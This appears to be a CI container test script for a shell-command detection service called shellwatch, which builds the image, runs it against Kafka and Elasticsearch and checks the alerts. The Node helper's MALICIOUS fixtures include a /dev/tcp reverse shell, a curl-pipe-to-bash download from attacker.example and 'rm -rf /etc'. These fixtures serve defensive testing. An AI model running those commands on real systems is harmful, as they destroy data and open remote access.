#!/usr/bin/env bash
# The container, proven (`npm run container:test`): validates docker-compose.yml,
# builds the Dockerfile with podman on a local Node.js base image (no registry
# needed), runs the image against the local Kafka and Elasticsearch
# (scripts/stack.sh), waits for /health/ready, produces shell command records
# and finds the expected alerts in Elasticsearch, runs the image's HEALTHCHECK,
# prints the image size and the cold start time, and removes what it started.
# Exits non-zero, with the reason, on any failure. Idempotent; runs as root in CI.
#
# Environment (all optional):
#   NODE_IMAGE              base image to build on; default: a local Debian
#                           bookworm + Node.js base, built once (scripts/container/build-base.sh)
#   CONTAINER_IMAGE         tag of the built image (default localhost/shellwatch:container-test)
#   CONTAINER_RECORDS       records to produce (default 200, one in ten malicious)
#   CONTAINER_READY_TIMEOUT seconds to wait for /health/ready (default 180)
#   CONTAINER_KEEP=1        keep the container, topic and indices after a failure
#   KAFKA_BROKER, ES_NODE   the local stack (default 127.0.0.1:9092, http://127.0.0.1:9200)
set -euo pipefail

REPO_DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
cd "$REPO_DIR"

IMAGE="${CONTAINER_IMAGE:-localhost/shellwatch:container-test}"
RECORDS="${CONTAINER_RECORDS:-200}"
READY_TIMEOUT="${CONTAINER_READY_TIMEOUT:-180}"
KAFKA_BROKER="${KAFKA_BROKER:-127.0.0.1:9092}"
ES_NODE="${ES_NODE:-http://127.0.0.1:9200}"
# The rule set the end-to-end tests use: which command fires which rule is fixed.
RULES_FIXTURE="test/fixtures/rules/basic"

started=$SECONDS
# A deadline's SIGTERM (or ^C) ends in the clean-up with a failing status.
trap 'printf "\n[container-test] FAILED at step %d (%s): stopped by a signal (a deadline?)\n" "$step_no" "$current_step" >&2; exit 143' TERM
trap 'exit 130' INT
STEP_PREFIX=container-test
# shellcheck source=scripts/container/steps.sh
source scripts/container/steps.sh
now_ms() { date +%s%3N; }

# podman prints systemd errors on machines without systemd (healthcheck timers):
# harmless, as the script runs the health check itself.
quiet_podman() {
  local err rc=0
  err="$(mktemp)"
  podman "$@" 2>"$err" || rc=$?
  grep -v -E 'systemd connection|/run/systemd/private' "$err" >&2 || true
  rm -f "$err"
  return "$rc"
}

# ------------------------------------------------------------------ 1. tools
step "tools (podman, runc, debootstrap, docker-compose, curl)"
missing=()
for tool in podman:podman runc:runc debootstrap:debootstrap docker-compose:docker-compose \
  curl:curl conmon:conmon; do
  command -v "${tool%%:*}" >/dev/null 2>&1 || missing+=("${tool#*:}")
done
# podman's network plugins (unused with host network, but podman wants them).
[[ -d /usr/lib/cni || -d /usr/libexec/cni ]] || missing+=(containernetworking-plugins)
if ((${#missing[@]} > 0)); then
  [[ "$(id -u)" -eq 0 ]] || fail "missing packages: ${missing[*]} (apt-get install them, or run as root)"
  info "apt-get install ${missing[*]}"
  apt_log="$(mktemp)"
  # Three attempts: a mirror hiccup should not fail CI.
  for attempt in 1 2 3; do
    { apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq \
      --no-install-recommends "${missing[@]}"; } >"$apt_log" 2>&1 && break
    if [[ $attempt == 3 ]]; then
      tail -20 "$apt_log" >&2
      fail "apt-get install ${missing[*]} failed 3 times"
    fi
    info "apt-get failed (attempt $attempt), retrying in $((attempt * 10))s: $(tail -1 "$apt_log")"
    sleep $((attempt * 10))
  done
  rm -f "$apt_log"
fi
[[ -d node_modules/kafkajs ]] || {
  info "npm ci (the record producer uses the repository's kafkajs)"
  npm ci --ignore-scripts --no-audit --no-fund >/dev/null || fail "npm ci failed"
}
# shellcheck source=scripts/container/podman-env.sh
source scripts/container/podman-env.sh
info "$(podman --version), $(runc --version | head -1), docker-compose $(docker-compose version --short 2>/dev/null)"
info "podman configuration: $CONTAINERS_CONF"
storage_before="$CONTAINER_STATE_DIR/storage-containers.$$"
sw_storage_containers >"$storage_before"
# Until step 7 installs the full clean-up: a failed or killed build's containers.
trap 'rc=$?; [[ $rc -eq 0 ]] || sw_remove_new_storage_containers "$storage_before"; rm -f "$storage_before"' EXIT

# ------------------------------------------------------------------ 2. compose
step "docker-compose.yml is valid (docker-compose config -q)"
docker-compose -f docker-compose.yml config -q || fail "docker-compose.yml does not validate"
info "valid; services: $(docker-compose -f docker-compose.yml config --services | paste -sd ' ')"

# ------------------------------------------------------------------ 3. base image
step "base image"
if [[ -n "${NODE_IMAGE:-}" ]]; then
  BASE_IMAGE="$NODE_IMAGE"
  info "NODE_IMAGE=$BASE_IMAGE (given)"
else
  BASE_IMAGE="localhost/shellwatch-node-base:${NODE_VERSION:-24.21.0}-bookworm"
  t0=$SECONDS
  bash scripts/container/build-base.sh "$BASE_IMAGE" || fail "could not build the local base image"
  info "$BASE_IMAGE ready ($((SECONDS - t0))s)"
fi

# ------------------------------------------------------------------ 4. build
step "podman build --build-arg NODE_IMAGE=$BASE_IMAGE -t $IMAGE ."
build_log="$CONTAINER_STATE_DIR/build.log"
t0=$SECONDS
# --format docker keeps HEALTHCHECK (the OCI format has no field for it);
# host network: npm ci needs the npm registry.
# Two attempts: the build's npm ci fetches from the registry, which can hiccup;
# a build that fails for a reason of its own fails the same way twice.
for attempt in 1 2; do
  podman build --format docker --network host --pull=missing \
    --build-arg NODE_IMAGE="$BASE_IMAGE" -t "$IMAGE" -f Dockerfile . >"$build_log" 2>&1 && break
  if [[ $attempt == 2 ]]; then
    tail -40 "$build_log" >&2
    fail "podman build failed twice (last lines above, full log: $build_log)"
  fi
  info "WARNING: podman build failed once, retrying: $(tail -1 "$build_log" | cut -c1-200)"
  sleep 10
done
build_seconds=$((SECONDS - t0))
image_bytes="$(podman image inspect --format '{{.Size}}' "$IMAGE")"
info "built in ${build_seconds}s; log: $build_log"

# ------------------------------------------------------------------ 5. image
step "image: non-root user, HEALTHCHECK, rules at /app/rules, no dev dependencies"
user="$(podman image inspect --format '{{.Config.User}}' "$IMAGE")"
[[ -n "$user" && "$user" != root && "$user" != 0 ]] || fail "image runs as root (USER is '${user}')"
healthcheck="$(podman image inspect --format '{{json .HealthCheck}}' "$IMAGE")"
[[ "$healthcheck" == *health/live* ]] || fail "image has no HEALTHCHECK on /health/live: $healthcheck"
inside="$(podman run --rm --no-healthcheck --network host --entrypoint /bin/sh "$IMAGE" -c '
  printf "uid=%s " "$(id -u)"
  printf "node=%s " "$(node --version)"
  printf "rules_owner=%s " "$(stat -c %U /app/rules)"
  printf "rule_files=%s " "$(find /app/rules -name "*.json" -o -name "*.yaml" -o -name "*.yml" | wc -l)"
  if [ -d node_modules/typescript ] || [ -d node_modules/vitest ]; then printf "dev_deps=present"; else printf "dev_deps=absent"; fi
')" || fail "could not run a shell in the image"
info "$inside"
[[ "$inside" == uid=10001\ * ]] || fail "the container does not run as uid 10001: $inside"
[[ "$inside" == *"rules_owner=$user"* ]] || fail "/app/rules is not owned by $user: $inside"
[[ "$inside" != *"rule_files=0 "* ]] || fail "no rule files baked in /app/rules: $inside"
[[ "$inside" == *dev_deps=absent* ]] || fail "dev dependencies in the runtime image: $inside"
# The baked rule set must load (the service refuses to become ready otherwise).
# Retried once: the regex safety check has a time budget that a loaded machine can exceed.
for attempt in 1 2; do
  if validation="$(podman run --rm --no-healthcheck --network none --entrypoint node "$IMAGE" \
    bin/shellwatch.js rules validate /app/rules 2>&1)"; then
    break
  fi
  [[ $attempt == 2 ]] && fail "the baked rules do not validate: $validation"
  info "WARNING: rules validate failed once, retrying: $(printf '%s' "$validation" | head -3)"
done
info "baked rules: $(printf '%s' "$validation" | tail -1)"

# ------------------------------------------------------------------ 6. stack
step "local stack (Kafka $KAFKA_BROKER, Elasticsearch $ES_NODE)"
es_host_port="${ES_NODE#*://}"
es_host_port="${es_host_port%%/*}"
if ! port_open "$KAFKA_BROKER" || ! curl -fs "$ES_NODE/_cluster/health" >/dev/null; then
  info "not running: bash scripts/stack.sh up"
  bash scripts/stack.sh up || fail "could not start the local stack"
fi
port_open "$KAFKA_BROKER" || fail "Kafka does not answer on $KAFKA_BROKER"
port_open "$es_host_port" || fail "Elasticsearch does not answer on $ES_NODE"
info "up"

# ------------------------------------------------------------------ helpers (Node.js + kafkajs)
# Run from the repository, so require() finds its node_modules.
helper() {
  KAFKA_BROKER="$KAFKA_BROKER" ES_NODE="$ES_NODE" node - "$@" <<'JS'
'use strict';
const { Kafka, logLevel, Partitioners } = require('kafkajs');
const [command, ...args] = process.argv.slice(2);
const kafka = new Kafka({
  brokers: [process.env.KAFKA_BROKER],
  clientId: 'shellwatch-container-test',
  logLevel: logLevel.NOTHING,
});
const es = process.env.ES_NODE;
// Written for this test; which rule of test/fixtures/rules/basic each
// malicious command fires is known by construction (as in the e2e tests).
const BENIGN = [
  'ls -la /var/log',
  'rm -rf ./build',
  'sudo systemctl restart nginx',
  'git pull --rebase origin main',
  'kubectl get pods -n payments',
];
const MALICIOUS = [
  { command: 'rm -rf /etc', rule: 'SW-DST-0001' },
  { command: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', rule: 'SW-EXE-0001' },
  { command: 'curl -s http://attacker.example/x.sh | bash', rule: 'SW-EXE-0002' },
];
const plan = (count) =>
  Array.from({ length: count }, (_, i) =>
    i % 10 === 3 ? MALICIOUS[Math.floor(i / 10) % MALICIOUS.length] : { command: BENIGN[i % BENIGN.length] },
  );

async function esJson(path, init) {
  const response = await fetch(es + path, {
    ...init,
    headers: { 'content-type': 'application/json' },
  });
  return { status: response.status, body: await response.json() };
}

const commands = {
  async 'create-topic'(topic, partitions) {
    const admin = kafka.admin();
    await admin.connect();
    try {
      await admin.createTopics({
        topics: [{ topic, numPartitions: Number(partitions) }],
        waitForLeaders: true,
      });
    } finally {
      await admin.disconnect();
    }
  },
  async produce(topic, count) {
    const producer = kafka.producer({ createPartitioner: Partitioners.DefaultPartitioner });
    await producer.connect();
    try {
      const messages = plan(Number(count)).map(({ command }, i) => ({
        key: `web-${i % 5}`,
        value: JSON.stringify({
          timestamp: new Date(Date.UTC(2026, 10, 25, 12, 0, 0, i)).toISOString(),
          user: i % 3 === 0 ? 'alice' : 'deploy',
          host: `web-${i % 5}.example.internal`,
          client_ip: '198.51.100.23',
          session_id: `s-${i % 7}`,
          cwd: '/home/alice',
          command,
          seq: i,
        }),
      }));
      await producer.send({ topic, acks: -1, messages });
    } finally {
      await producer.disconnect();
    }
  },
  // Polls until the alerts index holds exactly the expected alerts, then checks each one.
  async 'await-alerts'(topic, alertsIndex, commandsIndex, count, timeoutSeconds) {
    const expected = {};
    for (const { rule } of plan(Number(count))) if (rule) expected[rule] = (expected[rule] ?? 0) + 1;
    const total = Object.values(expected).reduce((a, b) => a + b, 0);
    const deadline = Date.now() + Number(timeoutSeconds) * 1000;
    let seen = -1;
    for (;;) {
      await esJson(`/${alertsIndex},${commandsIndex}/_refresh?ignore_unavailable=true`, { method: 'POST' });
      const { status, body } = await esJson(`/${alertsIndex}/_count`);
      seen = status === 200 ? body.count : 0;
      if (seen >= total) break;
      if (Date.now() > deadline) {
        throw new Error(`${seen}/${total} alerts in ${alertsIndex} after ${timeoutSeconds}s`);
      }
      await new Promise((r) => setTimeout(r, 500));
    }
    // Give a duplicate the chance to show up before counting exactly.
    await new Promise((r) => setTimeout(r, 1500));
    await esJson(`/${alertsIndex}/_refresh`, { method: 'POST' });
    const { body } = await esJson(`/${alertsIndex}/_search`, {
      method: 'POST',
      body: JSON.stringify({ size: 10000, query: { match_all: {} } }),
    });
    const hits = body.hits.hits;
    const problems = [];
    if (hits.length !== total) problems.push(`expected ${total} alerts, found ${hits.length}`);
    const perRule = {};
    for (const { _id, _source: a } of hits) {
      const ruleId = a?.rule?.id;
      perRule[ruleId] = (perRule[ruleId] ?? 0) + 1;
      const want = MALICIOUS.find((m) => m.command === a?.process?.command_line)?.rule;
      if (want !== ruleId) problems.push(`alert ${_id}: rule ${ruleId} on "${a?.process?.command_line}"`);
      // Where the record came from: shellwatch.kafka (vendor fields sit under shellwatch.*, ECS).
      const source = a?.shellwatch?.kafka;
      if (source?.topic !== topic) problems.push(`alert ${_id}: shellwatch.kafka.topic ${source?.topic}`);
      if (_id !== `${topic}:${source?.partition}:${source?.offset}:${ruleId}`) {
        problems.push(`alert ${_id}: id is not topic:partition:offset:rule`);
      }
    }
    if (JSON.stringify(perRule, Object.keys(perRule).sort()) !== JSON.stringify(expected, Object.keys(expected).sort())) {
      problems.push(`alerts per rule ${JSON.stringify(perRule)}, expected ${JSON.stringify(expected)}`);
    }
    const docs = await esJson(`/${commandsIndex}/_count`);
    const commandCount = docs.status === 200 ? docs.body.count : 0;
    if (commandCount !== Number(count)) problems.push(`${commandCount}/${count} records in ${commandsIndex}`);
    if (problems.length > 0) throw new Error(problems.slice(0, 10).join('\n'));
    console.log(`${hits.length} alerts ${JSON.stringify(perRule)}, ${commandCount} records indexed`);
  },
  async cleanup(topic, ...indices) {
    const admin = kafka.admin();
    await admin.connect();
    try {
      const existing = await admin.listTopics();
      // The input topic and what the service derives from it (.dlq, .alerts, .shellwatch-state).
      const topics = existing.filter((t) => t === topic || t.startsWith(`${topic}.`));
      if (topics.length > 0) await admin.deleteTopics({ topics });
    } finally {
      await admin.disconnect();
    }
    for (const index of indices) await esJson(`/${index}?ignore_unavailable=true`, { method: 'DELETE' });
  },
};

commands[command](...args).then(
  () => process.exit(0),
  (error) => {
    console.error(error instanceof Error ? error.message : String(error));
    process.exit(1);
  },
);
JS
}

# ------------------------------------------------------------------ 7. run
step "run the image against the local stack"
run_id="ct-$(date +%s)-$RANDOM"
topic="$run_id"
group="$run_id-group"
alerts_index="$run_id-alerts"
commands_index="$run_id-commands"
# Every name the service writes is this run's own: the stack is shared.
audit_index="$run_id-audit"
container="shellwatch-$run_id"
rules_dir="$(mktemp -d "${TMPDIR:-/tmp}/shellwatch-rules.XXXXXX")"
port="$(free_port 3100-3899)" || fail "no free port in 3100-3899"

finish() {
  local rc=$?
  if [[ $rc -ne 0 && "${CONTAINER_KEEP:-0}" == 1 ]]; then
    info "kept for inspection: container $container, topic $topic, indices $run_id-*, rules $rules_dir"
    return
  fi
  if [[ $rc -ne 0 ]] && podman container exists "$container" 2>/dev/null; then
    printf '[container-test] --- last container output ---\n' >&2
    podman logs --tail 40 "$container" 2>&1 | cut -c1-400 >&2 || true
  fi
  if podman container exists "$container" 2>/dev/null; then
    quiet_podman rm -f -t 10 "$container" >/dev/null || true
  fi
  helper cleanup "$topic" "$alerts_index" "$commands_index" "$audit_index" >/dev/null 2>&1 || true
  rm -rf "$rules_dir"
  [[ $rc -eq 0 ]] || sw_remove_new_storage_containers "$storage_before"
  rm -f "$storage_before"
}
trap finish EXIT

[[ -d "$RULES_FIXTURE" ]] || fail "$RULES_FIXTURE is missing"
cp -R "$RULES_FIXTURE/." "$rules_dir/"
chmod -R a+rX "$rules_dir"
helper create-topic "$topic" 3 || fail "could not create topic $topic"
info "topic $topic (3 partitions), group $group, indices $alerts_index / $commands_index"
info "rules: $RULES_FIXTURE mounted read-only at /app/rules; HTTP 127.0.0.1:$port"
info "read-only root file system, all capabilities dropped, no-new-privileges"

start_ms=$(now_ms)
# As deploy/kubernetes runs it: read-only root (podman gives /tmp a tmpfs, like
# the emptyDir there), no capabilities, no privilege escalation.
quiet_podman run -d --name "$container" --network host \
  --read-only --cap-drop ALL --security-opt no-new-privileges \
  -e KAFKA_BROKERS="$KAFKA_BROKER" -e ES_NODE="$ES_NODE" \
  -e KAFKA_TOPIC="$topic" -e KAFKA_GROUP_ID="$group" -e KAFKA_DLQ_TOPIC="$topic.dlq" \
  -e KAFKA_ALERTS_TOPIC="$topic.alerts" -e ES_AUDIT_INDEX="$audit_index" \
  -e ES_ALERTS_INDEX="$alerts_index" -e ES_COMMANDS_INDEX="$commands_index" \
  -e HTTP_HOST=127.0.0.1 -e HTTP_PORT="$port" -e LOG_LEVEL=info \
  -v "$rules_dir:/app/rules:ro" "$IMAGE" >/dev/null || fail "podman run failed"
info "container $container started"

# ------------------------------------------------------------------ 8. ready
step "GET /health/ready (deadline ${READY_TIMEOUT}s)"
deadline=$((SECONDS + READY_TIMEOUT))
status=""
rm -f "$CONTAINER_STATE_DIR/ready.json"
while :; do
  running="$(podman inspect --format '{{.State.Running}}' "$container" 2>/dev/null || echo false)"
  [[ "$running" == true ]] || fail "the container exited before it was ready"
  status="$(curl -s -o "$CONTAINER_STATE_DIR/ready.json" -w '%{http_code}' "http://127.0.0.1:$port/health/ready" || true)"
  [[ "$status" == 200 ]] && break
  ((SECONDS < deadline)) || fail "not ready after ${READY_TIMEOUT}s (last status ${status:-none}: $(cat "$CONTAINER_STATE_DIR/ready.json" 2>/dev/null))"
  sleep 0.25
done
cold_start_ms=$(($(now_ms) - start_ms))
info "ready after $((cold_start_ms / 1000)).$(printf '%03d' $((cold_start_ms % 1000)))s: $(cat "$CONTAINER_STATE_DIR/ready.json")"

# ------------------------------------------------------------------ 9. records -> alerts
step "produce $RECORDS records, find the alerts in Elasticsearch"
helper produce "$topic" "$RECORDS" || fail "could not produce to $topic"
result="$(helper await-alerts "$topic" "$alerts_index" "$commands_index" "$RECORDS" 120 2>&1)" ||
  fail "alerts not as expected: $result"
info "$result"

# ------------------------------------------------------------------ 10. HEALTHCHECK
step "HEALTHCHECK (podman healthcheck run)"
health_out="$(quiet_podman healthcheck run "$container" 2>&1)" || fail "HEALTHCHECK failed: $health_out"
health="$(podman inspect --format '{{.State.Health.Status}}' "$container" 2>/dev/null || echo unknown)"
[[ "$health" == healthy ]] || fail "health status is '$health' after a passing check"
info "healthy"

# ------------------------------------------------------------------ 11. stop
step "stop (SIGTERM) and remove the container"
t0=$(now_ms)
quiet_podman stop -t 20 "$container" >/dev/null || fail "podman stop failed"
stop_ms=$(($(now_ms) - t0))
exit_code="$(podman inspect --format '{{.State.ExitCode}}' "$container")"
[[ "$exit_code" == 0 ]] || fail "the service exited with $exit_code on SIGTERM (expected 0)"
quiet_podman rm "$container" >/dev/null
info "stopped in ${stop_ms} ms, exit code 0, removed"

# Stale build stages from earlier builds (not this build's cache).
podman image prune -f --filter until=24h >/dev/null 2>&1 || true

gzip_bytes="$(podman image save "$IMAGE" 2>/dev/null | gzip -1 | wc -c || echo 0)"
printf '\n[container-test] PASSED in %ds\n' "$((SECONDS - started))"
printf '  image          %s  %s MB uncompressed, %s MB as a gzipped archive (podman save | gzip -1)\n' \
  "$IMAGE" "$((image_bytes / 1000000))" "$((gzip_bytes / 1000000))"
printf '  base image     %s\n' "$BASE_IMAGE"
printf '  build          %ss\n' "$build_seconds"
printf '  cold start     %s.%03ds (podman run -> /health/ready 200)\n' "$((cold_start_ms / 1000))" "$((cold_start_ms % 1000))"
